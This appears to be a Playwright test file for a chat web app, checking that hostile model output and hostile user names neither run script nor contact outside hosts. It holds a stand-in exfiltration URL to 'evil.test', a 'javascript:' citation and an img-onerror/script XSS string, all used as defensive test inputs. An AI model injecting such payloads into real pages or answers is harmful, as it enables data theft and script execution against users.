import { exfiltrations, payloads } from '../mf-chat/src/markdown/safety/payloads.ts';
import { sendPrompt, expect, test, url, watchProblems } from './fixtures.ts';

const evil = 'https://evil.test/p?q=secret';
/** All shapes in one answer. Each has its own labels, so that definitions do not mix. */
const everything = [...exfiltrations, ...payloads]
  .map((shape, at) => shape.replaceAll('[r]', `[r${at}]`).replaceAll('[b]', `[b${at}]`).replaceAll('[^1]', `[^n${at}]`))
  .concat('This is the end of all shapes.')
  .join('\n\n');

test('a hundred forms of exfiltration and three hundred of scripting are shown: no foreign host is contacted, no script runs', async ({
  page,
  login,
  navigate,
}) => {
  const problems = watchProblems(page);
  const foreign: string[] = [];
  const { origin } = new URL(url());
  page.on('request', (request) => {
    const target = new URL(request.url());
    if (target.origin !== origin && !['data:', 'blob:'].includes(target.protocol)) foreign.push(request.url());
  });
  await login('premium@atrium.test');
  await navigate('/');
  await sendPrompt(page, `Is it safe? ${Date.now()}`);
  await expect(page).toHaveURL(/\?chat=[0-9a-f]{24}/);
  // Hostile model output in every field of an answer that contains text or a URL.
  await page.route(
    (address) => address.pathname === '/api/chat',
    async (route) => {
      const response = await route.fetch();
      const { messages, ...rest } = await response.json();
      await route.fulfill({
        response,
        json: {
          ...rest,
          messages: messages.map((message: object) => ({
            ...message,
            content: everything,
            thoughts: [everything.slice(0, 2000), `![a](${evil})`],
            citations: JSON.stringify([evil, 'javascript:globalThis.ran=1']),
            assistantFileUrl: evil,
            assistantFileType: 'image',
            userFiles: [{ _id: 'f', name: `![a](${evil}).png`, type: 'image/png', url: evil }],
          })),
        },
      });
    },
  );
  await page.reload();
  await expect(page.getByText('This is the end of all shapes.')).toBeAttached();
  const active = page
    .locator('[data-markdown]')
    .locator('script, iframe, object, embed, img, style, link, video, audio');
  await expect(active).toHaveCount(0);
  expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
  expect(foreign).toEqual([]);
  expect(problems).toEqual([]);
});

const hostile = '"><img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script>';
/** What users name: themselves, chats, collections, agents, files, memories. */
const named = new Set(['title', 'name', 'firstName', 'lastName', 'description', 'welcomeMessage', 'sharedBy']);
const agent = {
  _id: 'a'.repeat(24),
  title: '',
  instruction: '',
  files: [],
  teamRoles: [],
  memoryDisabled: false,
  lastUpdate: '2026-01-01T00:00:00.000Z',
};
const file = { _id: 'f', name: '', type: 'text/plain', url: '/objects/f', size: 3 };
const withHostileNames = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(withHostileNames);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, part]) =>
      named.has(key) && typeof part === 'string' ? [key, hostile] : [key, withHostileNames(part)],
    ),
  );
};

test('hostile names of users, chats, collections, agents and files are text everywhere', async ({
  page,
  login,
  navigate,
}) => {
  const problems = watchProblems(page);
  await login('premium@atrium.test');
  await navigate('/');
  await sendPrompt(page, `What is in it? ${Date.now()}`);
  await expect(page).toHaveURL(/\?chat=[0-9a-f]{24}/);
  const chat = page.url();
  await page.route(
    ({ pathname }) => pathname.startsWith('/api/'),
    async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const response = await route.fetch();
      if (!response.headers()['content-type']?.includes('application/json')) return route.fulfill({ response });
      const answer = await response.json();
      const { pathname } = new URL(route.request().url());
      if (pathname === '/api/flows') answer.flows.push(agent);
      if (pathname === '/api/chat') for (const message of answer.messages) message.userFiles = [file];
      return route.fulfill({ response, json: withHostileNames(answer) });
    },
  );
  await page.goto(chat);
  await expect(page.getByRole('heading', { name: hostile, level: 1 })).toBeVisible();
  await expect(page.getByRole('link', { name: hostile }).first()).toBeVisible();
  await expect(page.getByRole('list', { name: 'Conversation' }).getByText(hostile).first()).toBeVisible();
  const bar = page.getByRole('complementary', { name: 'Chats' });
  // Chats, collections and agents are fetched by separate calls.
  await expect.poll(() => bar.getByText(hostile).count()).toBeGreaterThan(3);
  await navigate('/');
  await expect(page.getByText(`How can I help, ${hostile}?`)).toBeVisible();
  await expect(page.locator('img[onerror], img[src="x"], main script')).toHaveCount(0);
  expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
  expect(problems).toEqual([]);
});
